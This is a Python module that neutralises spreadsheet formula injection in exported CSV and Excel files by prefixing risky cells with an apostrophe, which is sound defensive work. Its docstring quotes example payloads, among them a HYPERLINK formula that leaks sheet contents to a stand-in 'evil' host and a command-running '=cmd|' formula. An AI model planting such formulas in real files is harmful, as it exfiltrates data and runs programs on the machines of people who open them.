"""Cells that a spreadsheet would run: text starting with ``= + - @``, a tab or a carriage return is read by
Excel and LibreOffice as a formula (``=HYPERLINK("http://evil/?"&A1, "click")`` leaks the sheet, ``=cmd|…``
runs programs). Every CSV and Excel file we write passes its text through :func:`neutralise_frame`, which
puts an apostrophe in front of such cells (the OWASP advice): the text stays readable, nothing runs.

Parquet and JSON are data formats read by programs, not spreadsheets; they keep the text as it is."""

from __future__ import annotations

from typing import Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(v: Any) -> Any:
    """``'=1+1`` for ``=1+1``; anything that is not text starting a formula is returned unchanged."""
    return "'" + v if isinstance(v, str) and v.startswith(FORMULA_STARTS) else v


def neutralise_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells and column names cannot start a formula (numbers stay numbers)."""
    out = df.copy()
    out.columns = [neutralise_cell(c) for c in out.columns]
    for i in range(out.shape[1]):
        col = out.iloc[:, i]
        if not (col.dtype == object or pd.api.types.is_string_dtype(col.dtype)):
            continue
        first = col.str[:1] if len(col) else col
        mask = first.isin(FORMULA_STARTS).fillna(False).astype(bool)
        if mask.any():
            col = col.astype(object).copy()
            col[mask] = "'" + col[mask].astype(str)
            out.iloc[:, i] = col
    return out
